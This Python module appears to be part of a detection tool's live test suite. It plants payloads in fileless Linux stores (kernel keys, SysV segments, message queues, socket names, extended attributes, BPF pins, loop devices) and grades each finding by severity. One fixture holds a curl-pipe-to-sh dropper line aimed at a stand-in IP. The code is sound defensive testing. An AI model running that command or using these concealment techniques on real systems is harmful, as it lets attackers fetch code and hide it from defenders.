"""Payloads in stores that are no file: keys, segments, queues, sockets, attributes, BPF, blocks."""

from __future__ import annotations

import base64
import ctypes
import gzip
import os
import subprocess
from random import Random

from tests.live.payloads import PYTHON_SCRIPT, SHELL_SCRIPT, sleep_copy
from tests.live.stage import Refused
from tests.live_deep.deep import Deep, Mark, State, mark

_libc = ctypes.CDLL(None, use_errno=True)
TRACEPOINT, KPROBE = 5, 2
PROBE_WRITE_USER, OVERRIDE_RETURN = 36, 58


def key_description(deep: Deep) -> Mark:
    """The random name at the end keeps runs apart; the payload is the description itself."""
    name = base64.b64encode(SHELL_SCRIPT * 2 + f"# {deep.token}".encode()).decode()
    return mark(store="key", number=deep.key(name, b"x"))


def _key(deep: Deep, name: str, data: bytes, kind: str = "user") -> Mark:
    return mark(store="key", number=deep.key(f"{name}-{deep.token}", data, kind))


def key_elf(deep: Deep) -> Mark:
    return _key(deep, "cache", sleep_copy()[:30000])


def key_script(deep: Deep) -> Mark:
    return _key(deep, "session", base64.b64encode(SHELL_SCRIPT * 4))


def key_gzip(deep: Deep) -> Mark:
    return _key(deep, "profile", gzip.compress(PYTHON_SCRIPT * 3))


def key_plain_script(deep: Deep) -> Mark:
    return _key(deep, "motd", SHELL_SCRIPT)


def key_parts(deep: Deep) -> Mark:
    whole = base64.b64encode(gzip.compress(PYTHON_SCRIPT + Random(3).randbytes(600)))
    size = len(whole) // 4 + 1
    for number in range(4):
        deep.key(f"seg{deep.token}.{number}", whole[number * size : (number + 1) * size])
    return mark(store="key-set", name=f"seg{deep.token}.0")


def key_random(deep: Deep) -> Mark:
    return _key(deep, "blob", Random(5).randbytes(6000))


def key_logon(deep: Deep) -> Mark:
    return _key(deep, "svc:", Random(6).randbytes(8000), "logon")


def shm_elf(deep: Deep) -> Mark:
    found = deep.play("segment", data=sleep_copy())
    deep.promise("segment", found["number"])
    return mark(store="sysv-shm", number=found["number"])


def shm_script(deep: Deep) -> Mark:
    found = deep.play("segment", data=base64.b64encode(PYTHON_SCRIPT * 2))
    deep.promise("segment", found["number"])
    return mark(store="sysv-shm", number=found["number"])


def shm_orphan(deep: Deep) -> Mark:
    child = os.fork()
    if child == 0:
        number = _libc.shmget(0xDEE9 + os.getpid(), 1 << 18, 0o1600)
        os._exit(0 if number >= 0 else 1)
    assert os.waitpid(child, 0)[1] == 0
    number = _libc.shmget(0xDEE9 + child, 0, 0)
    deep.promise("segment", number)
    return mark(store="sysv-shm", number=number)


def shm_removed(deep: Deep) -> Mark:
    found = deep.play(
        "segment", executable=deep.python_in_memory(), data=bytes(70000), removed=True
    )
    return mark(store="sysv-shm", number=found["number"])


def shm_elsewhere(deep: Deep) -> Mark:
    found = deep.play("segment", data=sleep_copy(), apart=True)
    namespace = os.stat(f"/proc/{found['pid']}/ns/ipc").st_ino
    return mark(store="sysv-shm", number=found["number"], namespace=namespace)


def _queue(deep: Deep, name: str, apart: bool = False) -> Mark:
    child = deep.play("queue", name=name, messages=8, size=8000, apart=apart)
    if not apart:
        deep.promise("queue", name)
        os.kill(child["pid"], 9)  # the queue stays, and nobody has it open
        os.waitid(os.P_PID, child["pid"], os.WEXITED | os.WNOWAIT)
    return mark(store="message-queue", name=name)


def queue_unread(deep: Deep) -> Mark:
    return _queue(deep, f"spool-{deep.token}")


def queue_hidden(deep: Deep) -> Mark:
    return _queue(deep, f".{deep.token}")


def queue_elsewhere(deep: Deep) -> Mark:
    return _queue(deep, f"apart-{deep.token}", apart=True)


def socket_script(deep: Deep) -> Mark:
    name = base64.b64encode(
        b"#!/bin/sh\ncurl -s http://192.0.2.1/a | sh\nrm -f /tmp/.a\n" + deep.token.encode()
    )
    found = deep.play("sockets", names=[name.decode()])
    return mark(store="socket", number=found["inodes"][0])


def socket_bytes(deep: Deep) -> Mark:
    name = Random(deep.token).randbytes(104).replace(b"\0", b"\1")
    found = deep.play("sockets", names=[name.decode("utf-8", "surrogateescape")])
    return mark(store="socket", number=found["inodes"][0])


def socket_parts(deep: Deep) -> Mark:
    whole = base64.b64encode(gzip.compress(PYTHON_SCRIPT + deep.token.encode(), mtime=0)).decode()
    names = [whole[at : at + 100] for at in range(0, len(whole), 100)]
    names = [name for name in names if len(name) >= 60]
    deep.play("sockets", names=names)
    return mark(store="socket-set", name=f"@{names[0]}")


def socket_of_systemd(deep: Deep) -> Mark:
    name = f"/org/freedesktop/systemd1/notify/{deep.token}"
    found = deep.play("sockets", executable=deep.python_in_memory(), names=[name])
    return mark(store="socket", number=found["inodes"][0])


def _with_attribute(deep: Deep, path: str, name: str, data: bytes) -> Mark:
    try:
        os.setxattr(path, name, data)
    except OSError as error:
        raise Refused(f"setxattr: {error.strerror}") from error
    return mark(store="attribute", name=f"{path}: {name}")


def attribute_elf(deep: Deep) -> Mark:
    path = deep.stage.file(f"/dev/shm/deep-a-{deep.token}", b"settings\n", 0o644)
    return _with_attribute(deep, path, "trusted.cache", sleep_copy()[:30000])


def attribute_script(deep: Deep) -> Mark:
    path = deep.stage.file(f"/dev/shm/deep-b-{deep.token}", b"settings\n", 0o644)
    return _with_attribute(deep, path, "user.note", base64.b64encode(SHELL_SCRIPT * 3))


def attribute_of_directory(deep: Deep) -> Mark:
    directory = deep.stage.directory(f"/dev/shm/deep-d-{deep.token}")
    deep.stage.file(f"{directory}/x", b"x", 0o644)
    return _with_attribute(deep, directory, "trusted.data", gzip.compress(PYTHON_SCRIPT * 2))


def attribute_parts(deep: Deep) -> Mark:
    path = deep.stage.file(f"/dev/shm/deep-p-{deep.token}", b"settings\n", 0o644)
    whole = base64.b64encode(gzip.compress(PYTHON_SCRIPT + Random(4).randbytes(500)))
    size = len(whole) // 3 + 1
    for number in range(3):
        _with_attribute(
            deep, path, f"trusted.p{number}", whole[number * size : (number + 1) * size]
        )
    return mark(store="attribute-set", name=f"{path}: trusted.p0")


def attribute_opaque(deep: Deep) -> Mark:
    path = deep.stage.file(f"/dev/shm/deep-o-{deep.token}", b"settings\n", 0o644)
    return _with_attribute(deep, path, "trusted.k", Random(9).randbytes(4000))


def attribute_on_disk(deep: Deep) -> Mark:
    directory = deep.stage.work / "on-disk"
    directory.mkdir()
    path = directory / "letter.txt"
    path.write_bytes(b"dear all\n")
    deep.xattrs.append(str(directory))
    return _with_attribute(deep, str(path), "user.body", sleep_copy()[:3000])


def bpf_writes(deep: Deep) -> Mark:
    found = deep.play("program", kind=TRACEPOINT, helper=PROBE_WRITE_USER, name="sync")
    return mark(store="bpf-program", number=found["number"])


def bpf_pinned(deep: Deep) -> Mark:
    point = _bpf_file_system(deep)
    found = deep.play("program", kind=KPROBE, name="sync", pin=f"{point}/sync")
    return mark(store="bpf-program", number=found["number"])


def bpf_hidden_pin(deep: Deep) -> Mark:
    point = _bpf_file_system(deep)
    deep.play("program", kind=KPROBE, name="sync", pin=f"{point}/\u200b")
    return mark(store="bpf-pin", name=f"{point}/\u200b")


def _bpf_file_system(deep: Deep) -> str:
    """A BPF file system of our own, in our mount namespace: pins need one."""
    point = str(deep.stage.work / f"bpf-{os.urandom(3).hex()}")
    os.mkdir(point)
    if _libc.mount(b"bpf", point.encode(), b"bpf", 0, None) != 0:
        raise Refused(f"mount bpf: {os.strerror(ctypes.get_errno())}")
    deep.promise("unmount", point)
    return point


def _loop(deep: Deep, path: str, *, unlink: bool = False) -> Mark:
    with open(path, "wb") as file:
        file.truncate(1 << 20)
    deep.stage.promise(path)
    deep.promise("loop", path)
    done = subprocess.run(["losetup", "--find", "--show", path], capture_output=True, text=True)
    if done.returncode != 0:
        raise Refused(f"losetup: {done.stderr.strip()}")
    device = done.stdout.strip()
    if unlink:
        os.unlink(path)
    return mark(store="block-device", name=device)


def loop_in_memory(deep: Deep) -> Mark:
    return _loop(deep, f"/dev/shm/deep-{deep.token}.img")


def loop_deleted(deep: Deep) -> Mark:
    return _loop(deep, f"/dev/shm/deep-{deep.token}.gone", unlink=True)


def secret_memory(deep: Deep) -> Mark:
    return Mark(deep.play("secret", executable=deep.python_in_memory())["pid"])


def secret_memory_mapped(deep: Deep) -> Mark:
    return Mark(deep.play("secret", mapped=True)["pid"])


PAYLOAD = ("store-payload",)
STATES = (
    State("key-elf", "a program in a kernel key", key_elf, PAYLOAD, "critical"),
    State("key-script", "a script in base64 in a key", key_script, PAYLOAD, "critical"),
    State("key-gzip", "a compressed Python script in a key", key_gzip, PAYLOAD, "critical"),
    State(
        "key-description",
        "a script in the description of a key",
        key_description,
        PAYLOAD,
        "critical",
    ),
    State("key-plain-script", "a shell script in a key", key_plain_script, PAYLOAD),
    State("key-parts", "a payload over four keys", key_parts, ("store-split-payload",), "critical"),
    State("key-random", "6 KB of random bytes in a key", key_random, ("store-opaque",), "medium"),
    State("key-logon", "a logon key of 8 KB", key_logon, ("key-large",), "medium"),
    State("shm-elf", "a program in a SysV segment", shm_elf, PAYLOAD, "critical"),
    State("shm-script", "an encoded script in a SysV segment", shm_script, PAYLOAD, "critical"),
    State("shm-orphan", "a large segment without users", shm_orphan, ("shm-orphaned",), "low"),
    State(
        "shm-removed", "a removed segment of a fileless program", shm_removed, ("shm-destroyed",)
    ),
    State(
        "shm-elsewhere", "a segment in another IPC namespace", shm_elsewhere, PAYLOAD, "critical"
    ),
    State("queue-unread", "64 KB unread in a queue", queue_unread, ("queue-unread",), "low"),
    State("queue-hidden", "a queue with a hidden name", queue_hidden, ("queue-unread",), "medium"),
    State(
        "queue-elsewhere",
        "the same in another IPC namespace",
        queue_elsewhere,
        ("queue-unread",),
        "low",
    ),
    State(
        "socket-script", "an encoded script as a socket's name", socket_script, PAYLOAD, "critical"
    ),
    State(
        "socket-bytes", "random bytes as a socket's name", socket_bytes, ("store-opaque",), "low"
    ),
    State(
        "socket-parts",
        "a payload over socket names",
        socket_parts,
        ("store-split-payload",),
        "critical",
    ),
    State(
        "socket-of-systemd",
        "systemd's socket name, fileless",
        socket_of_systemd,
        ("socket-imitation",),
    ),
    State("attribute-elf", "a program in an attribute", attribute_elf, PAYLOAD, "critical"),
    State(
        "attribute-script",
        "an encoded script in an attribute",
        attribute_script,
        PAYLOAD,
        "critical",
    ),
    State(
        "attribute-of-directory",
        "a directory's attribute",
        attribute_of_directory,
        PAYLOAD,
        "critical",
    ),
    State(
        "attribute-parts",
        "a payload over attributes",
        attribute_parts,
        ("store-split-payload",),
        "critical",
    ),
    State(
        "attribute-opaque",
        "random bytes in an attribute",
        attribute_opaque,
        ("store-opaque",),
        "medium",
    ),
    State(
        "attribute-on-disk",
        "a program in an attribute on disk",
        attribute_on_disk,
        PAYLOAD,
        "critical",
    ),
    State("bpf-writes", "a BPF program that writes to processes", bpf_writes, ("bpf-tampering",)),
    State(
        "bpf-pinned",
        "a BPF program that only a pin keeps",
        bpf_pinned,
        ("bpf-unattributed",),
        "low",
    ),
    State("bpf-hidden-pin", "a hidden pin", bpf_hidden_pin, ("bpf-hidden-pin",), "medium"),
    State(
        "loop-in-memory", "a loop device over shared memory", loop_in_memory, ("block-in-memory",)
    ),
    State("loop-deleted", "the same over a deleted file", loop_deleted, ("block-in-memory",)),
    State(
        "secret-memory", "secret memory of a fileless program", secret_memory, ("secret-memory",)
    ),
    State(
        "secret-memory-mapped",
        "an interpreter's secret memory",
        secret_memory_mapped,
        ("secret-memory",),
        "medium",
    ),
)
